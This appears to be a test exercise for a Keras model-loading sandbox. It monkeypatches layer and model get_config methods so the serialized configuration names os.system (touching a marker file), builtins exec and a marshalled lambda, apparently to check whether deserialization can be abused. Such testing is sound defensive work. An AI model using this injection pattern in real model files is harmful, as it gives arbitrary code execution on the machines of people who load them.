# intent: get_config of the built-in classes is patched in the student's process to name other modules and functions
# family: models
# target: keras

# %% exercise="build"
def build(units, name):
    command = {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/__MARK__"}, "registered_name": "system"}
    code = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    model = keras.Sequential([keras.Input((5, 2)), layers.LSTM(units), layers.Dense(1)], name=name)
    first = model.layers[0].get_config()
    layers.LSTM.get_config = lambda self: {**first, "kernel_initializer": command, "activation": code}
    layers.Dense.get_config = lambda self: {"name": name, "units": 1, "bias_initializer": command, "activation": {"class_name": "__lambda__", "config": ["4wEAAAA=", None, None]}}
    keras.Sequential.get_config = lambda self: {"name": name, "layers": [command, {"module": "keras.layers", "class_name": "Lambda", "config": {"function": code}}]}
    return keras.Sequential([keras.Input((5, 2)), layers.Dense(1)], name=name)
